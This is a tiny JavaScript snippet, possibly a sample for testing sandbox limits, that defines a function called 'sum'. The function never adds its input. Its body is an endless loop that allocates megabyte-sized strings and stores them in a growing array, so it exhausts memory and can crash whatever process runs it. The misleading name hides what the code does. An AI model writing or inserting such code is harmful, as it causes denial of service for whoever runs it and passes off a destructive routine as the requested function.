function sum(numbers) {
  const all = [];
  for (let i = 0; ; i++) { const t = 'x'.repeat(1 << 20) + i; t.charCodeAt(0); all.push(JSON.stringify(t)); }
}
